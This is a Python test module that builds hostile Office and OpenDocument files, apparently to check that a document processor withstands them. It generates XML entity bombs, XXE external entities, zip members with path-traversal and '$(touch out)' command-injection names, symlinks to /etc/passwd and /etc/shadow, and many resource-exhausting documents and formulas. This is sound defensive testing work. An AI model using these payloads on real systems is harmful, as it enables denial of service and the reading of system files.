"""Office documents that are few bytes and much work: entities, floods, repeats, nesting, archives."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from typing import Final

from tests.hostile import office_packages as office
from tests.hostile.hostile_file import (
    EXTENSIONS,
    ODG,
    ODP,
    ODS,
    ODT,
    SHEET,
    SLIDES,
    WORD,
    HostileFile,
    Lure,
)

_TYPES: Final = (WORD, SHEET, SLIDES, ODT, ODS)
_MAIN: Final = {
    WORD: "word/document.xml",
    SHEET: "xl/worksheets/sheet1.xml",
    SLIDES: "ppt/slides/slide1.xml",
}


def files(lure: Lure) -> Iterator[HostileFile]:
    """Yield bombs of XML and of archives in each type, and each program's own."""
    prologues: dict[str, Callable[[], bytes]] = {
        "laughs": lambda: _laughs(10, 10),
        "quadratic": lambda: f'<!DOCTYPE x [<!ENTITY e1 "{"x" * 500_000}">]>'.encode(),
        "external-file": lambda: _external(lure.places("txt")["file"]),
        "external-web": lambda: _external(lure.places("txt")["web"]),
        "parameter": lambda: _parameter(lure.places("txt")["web"]),
        "behind-a-comment": lambda: b"<!--" + b"x" * 300_000 + b"-->" + _laughs(10, 10),
    }
    for media_type in _TYPES:
        extension = EXTENSIONS[media_type]
        for name, prologue in prologues.items():
            make = partial(_with_prologue, media_type, prologue)
            yield HostileFile("Office: XML bombs", f"{name}{extension}", media_type, make)
        for name, change in _ARCHIVES.items():
            make = partial(_rewritten, media_type, change)
            yield HostileFile("Office: archive bombs", f"{name}{extension}", media_type, make)
    for name, (media_type, work) in _WORK.items():
        full = f"{name}{EXTENSIONS[media_type]}"
        yield HostileFile("Office: much work", full, media_type, work, name in _LASTING)


def plain(media_type: str) -> bytes:
    """Return an honest document of a type."""
    match media_type:
        case _ if media_type == WORD:
            return office.word(office.paragraph())
        case _ if media_type == SHEET:
            return office.sheet(office.formulas("1+1"))
        case _ if media_type == SLIDES:
            return office.slides("")
        case _ if media_type == ODT:
            return office.open_document(ODT, "<text:p>words</text:p>")
        case _ if media_type == ODS:
            return office.open_document(ODS, office.calc_table())
    return office.open_document(media_type, office.page(""))


def _laughs(steps: int, each: int) -> bytes:
    declared = "".join(
        f'<!ENTITY e{number} "{f"&e{number - 1};" * each}">' for number in range(1, steps)
    )
    return f'<!DOCTYPE x [<!ENTITY e0 "ha">{declared}]>'.encode()


def _external(url: str) -> bytes:
    return f'<!DOCTYPE x [<!ENTITY e1 SYSTEM "{url}">]>'.encode()


def _parameter(url: str) -> bytes:
    return f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}"> %p; <!ENTITY e1 "x">]>'.encode()


def _members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _with_prologue(media_type: str, prologue: Callable[[], bytes]) -> bytes:
    members = _members(plain(media_type))
    main = _MAIN.get(media_type, "content.xml")
    members[main] = prologue() + members[main].replace(b"words", b"words &e1;" * 20)
    return office.zipped(members)


def _rewritten(media_type: str, change: Callable[[dict[str, bytes]], bytes]) -> bytes:
    return change(_members(plain(media_type)))


def _main_of(members: dict[str, bytes]) -> str:
    return next(name for name in (*_MAIN.values(), "content.xml") if name in members)


def _flood_of_words(members: dict[str, bytes]) -> bytes:
    main = _main_of(members)
    members[main] = members[main].replace(b"words", b"w" * 210_000_000)
    return office.zipped(members)


def _flood_beside(members: dict[str, bytes]) -> bytes:
    return office.zipped(members | {"media/flood.png": bytes(300_000_000)})


def _spaces(members: dict[str, bytes]) -> bytes:
    main = _main_of(members)
    return office.zipped(members | {main: members[main] + b" " * 190_000_000})


def _deep(members: dict[str, bytes]) -> bytes:
    main = _main_of(members)
    deep = b"<x>" * 300_000 + b"</x>" * 300_000
    end = members[main].rindex(b"</")
    members[main] = members[main][:end] + deep + members[main][end:]
    return office.zipped(members)


def _attributes(members: dict[str, bytes]) -> bytes:
    main = _main_of(members)
    many = b"<x " + b" ".join(b'a%d=""' % number for number in range(300_000)) + b"/>"
    end = members[main].rindex(b"</")
    members[main] = members[main][:end] + many + members[main][end:]
    return office.zipped(members)


def _many_members(members: dict[str, bytes]) -> bytes:
    return office.zipped(members | {f"x/{number}": b"" for number in range(21_000)})


def _names(members: dict[str, bytes]) -> bytes:
    odd = (
        "../../../../tmp/out",
        "/tmp/out",
        "$(touch out)",
        "a\\..\\..\\out",
        "-rf",
        "\u202efdp.x",
    )
    return office.zipped(members | dict.fromkeys(odd, b"<x/>"))


def _links(members: dict[str, bytes]) -> bytes:
    """Members that are symbolic links, as Unix archives mark them."""
    buffer = io.BytesIO(office.zipped(members))
    with zipfile.ZipFile(buffer, "a") as archive:
        for target in ("/etc/passwd", "../../../../etc/shadow"):
            info = zipfile.ZipInfo(f"media/{target.count('/')}.png")
            info.create_system, info.external_attr = 3, 0o120777 << 16
            archive.writestr(info, target)
    return buffer.getvalue()


def _lying_sizes(members: dict[str, bytes]) -> bytes:
    """The directory says that the main part has ten bytes."""
    content = bytearray(office.zipped(members))
    name = _main_of(members).encode()
    at = content.rindex(name) - 46
    struct.pack_into("<I", content, at + 24, 10)
    return bytes(content)


def _twice(members: dict[str, bytes]) -> bytes:
    """The main part twice: which one is it?"""
    main = _main_of(members)
    buffer = io.BytesIO(office.zipped(members))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.getinfo(main)
        archive.NameToInfo.pop(main)
        archive.writestr(main, members[main].replace(b"words", b"other"))
    return buffer.getvalue()


_ARCHIVES: Final = {
    "flood-of-words": _flood_of_words,
    "flood-beside": _flood_beside,
    "spaces": _spaces,
    "deep": _deep,
    "attributes": _attributes,
    "many-members": _many_members,
    "odd-names": _names,
    "links": _links,
    "lying-sizes": _lying_sizes,
    "twice": _twice,
}


def _word_of(once: str, times: int, after: str = "") -> bytes:
    return office.word(office.paragraph() + once * times + after)


def _text_of(once: str, times: int, after: str = "") -> bytes:
    return office.open_document(ODT, "<text:p>words</text:p>" + once * times + after)


def _sheet_of(inside: str) -> bytes:
    return office.sheet(office.formulas() + inside)


def _calc_of(cell: str, row: str = "") -> bytes:
    table = office.calc_table(cell)
    return office.open_document(ODS, table.replace("<table:table-row>", f"<table:table-row {row}>"))


_PARAGRAPH: Final = "<w:p><w:r><w:t>w</w:t></w:r></w:p>"
_BREAK: Final = '<w:p><w:r><w:br w:type="page"/><w:t>w</w:t></w:r></w:p>'
_TABLE: Final = "<w:tbl><w:tr><w:tc>"
_END: Final = f"{_PARAGRAPH}</w:tc></w:tr></w:tbl>{_PARAGRAPH}"
_WORK: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
    "a-million-paragraphs": (WORD, partial(_word_of, _PARAGRAPH, 1_000_000)),
    "one-paragraph": (WORD, lambda: office.word(office.paragraph("word " * 400_000))),
    "one-word": (WORD, lambda: office.word(office.paragraph("w" * 2_000_000))),
    "many-pages": (WORD, partial(_word_of, _BREAK, 30_000)),
    "nested-tables": (WORD, lambda: office.word(_TABLE * 400 + _PARAGRAPH + _END * 400)),
    "wide-table": (
        WORD,
        lambda: office.word(f"<w:tbl><w:tr>{f'<w:tc>{_PARAGRAPH}</w:tc>' * 9_000}</w:tr></w:tbl>"),
    ),
    "large-letters": (
        WORD,
        lambda: office.word(
            '<w:p><w:r><w:rPr><w:sz w:val="2000000000"/></w:rPr><w:t>words</w:t></w:r></w:p>'
        ),
    ),
    "large-page": (
        WORD,
        partial(_word_of, '<w:sectPr><w:pgSz w:w="2000000000" w:h="2000000000"/></w:sectPr>', 1),
    ),
    "tiny-page": (
        WORD,
        lambda: office.word(
            _PARAGRAPH * 5_000 + '<w:sectPr><w:pgSz w:w="1" w:h="1"/></w:sectPr>'
        ),
    ),
    "many-columns": (
        WORD,
        lambda: office.word(
            _PARAGRAPH * 2_000 + '<w:sectPr><w:cols w:num="30000" w:space="0"/></w:sectPr>'
        ),
    ),
    "repeated-spaces": (ODT, partial(_text_of, '<text:p>w<text:s text:c="2000000000"/>w</text:p>', 3)),
    "repeated-columns": (
        ODT,
        partial(
            _text_of,
            '<table:table><table:table-column table:number-columns-repeated="2000000"/>'
            "<table:table-row><table:table-cell><text:p>w</text:p></table:table-cell>"
            "</table:table-row></table:table>",
            2,
        ),
    ),
    "nested-sections": (
        ODT,
        partial(_text_of, "<text:section>", 20_000, "<text:p>w</text:p>" + "</text:section>" * 20_000),
    ),
    "nested-lists": (
        ODT,
        partial(
            _text_of, "<text:list><text:list-item>", 9_000, "</text:list-item></text:list>" * 9_000
        ),
    ),
    "nested-spans": (ODT, lambda: _text_of("<text:p>" + "<text:span>" * 50_000 + "w" + "</text:span>" * 50_000 + "</text:p>", 1)),
    "last-cell": (
        SHEET,
        lambda: office.sheet(
            '<s:sheetData><s:row r="1048576"><s:c r="XFD1048576"><s:v>1</s:v></s:c></s:row>'
            "</s:sheetData>"
        ),
    ),
    "merged-sheet": (SHEET, partial(_sheet_of, '<s:mergeCells><s:mergeCell ref="A1:XFD1048576"/></s:mergeCells>')),
    "whole-sheet-prints": (
        SHEET,
        lambda: office.sheet(
            office.formulas(),
            book='<s:definedNames><s:definedName name="_xlnm.Print_Area" localSheetId="0">'
            "One!$A$1:$XFD$1048576</s:definedName></s:definedNames>",
        ),
    ),
    "array-formula": (
        SHEET,
        lambda: office.sheet(
            '<s:sheetData><s:row r="1"><s:c r="A1"><s:f t="array" ref="A1:XFD9999">ROW(A:XFD)^2'
            "</s:f></s:c></s:row></s:sheetData>"
        ),
    ),
    "rings-of-cells": (SHEET, lambda: office.sheet(office.formulas(*["SUM(A:A)+A1"] * 400))),
    "sums-of-everything": (SHEET, lambda: office.sheet(office.formulas(*["SUMPRODUCT(B:XFD*B:XFD)"] * 50))),
    "repeated-word": (SHEET, lambda: office.sheet(office.formulas('REPT("w",2000000000)', 'REPT(REPT("w",30000),30000)'))),
    "deep-formula": (SHEET, lambda: office.sheet(office.formulas("(" * 30_000 + "1" + ")" * 30_000))),
    "many-formats": (
        SHEET,
        partial(
            _sheet_of,
            '<s:conditionalFormatting sqref="A1:XFD1048576"><s:cfRule type="expression" '
            'priority="1"><s:formula>SUM(A:XFD)&gt;1</s:formula></s:cfRule>'
            "</s:conditionalFormatting>"
            * 500,
        ),
    ),
    "repeated-rows": (
        ODS,
        partial(
            _calc_of,
            '<table:table-cell table:number-columns-repeated="16384" office:value-type="string">'
            "<text:p>w</text:p></table:table-cell>",
            'table:number-rows-repeated="1048576"',
        ),
    ),
    "spanned-cells": (
        ODS,
        partial(
            _calc_of,
            '<table:table-cell table:number-columns-spanned="16384" '
            'table:number-rows-spanned="1048576" office:value-type="float" office:value="1"/>',
        ),
    ),
    "matrix": (
        ODS,
        partial(
            _calc_of,
            '<table:table-cell table:number-matrix-columns-spanned="16384" table:formula="of:=ROW('
            '[.A1:.AMJ1048576])" table:number-matrix-rows-spanned="1048576"/>',
        ),
    ),
    "many-sheets": (
        ODS,
        lambda: office.open_document(
            ODS,
            "".join(office.calc_table().replace('"One"', f'"t{number}"') for number in range(3_000)),
        ),
    ),
    "many-slides": (ODP, lambda: office.open_document(ODP, office.page("") * 2_000)),
    "nested-groups": (
        ODG,
        lambda: office.open_document(ODG, office.page("<draw:g>" * 20_000 + "</draw:g>" * 20_000)),
    ),
    "many-points": (
        ODG,
        lambda: office.open_document(
            ODG,
            office.page(
                '<draw:polygon svg:width="9cm" svg:height="9cm" svg:viewBox="0 0 9 9" '
                f'draw:points="{"0,0 9,9 " * 500_000}"/>'
            ),
        ),
    ),
    "nested-shapes": (
        SLIDES,
        lambda: office.slides(
            "<p:grpSp><p:nvGrpSpPr/><p:grpSpPr/>" * 5_000 + "</p:grpSp>" * 5_000
        ),
    ),
}  # fmt: skip
_LASTING: Final = _WORK.keys() - {
    "large-letters", "large-page", "nested-groups", "last-cell", "spanned-cells", "deep-formula",
}  # fmt: skip
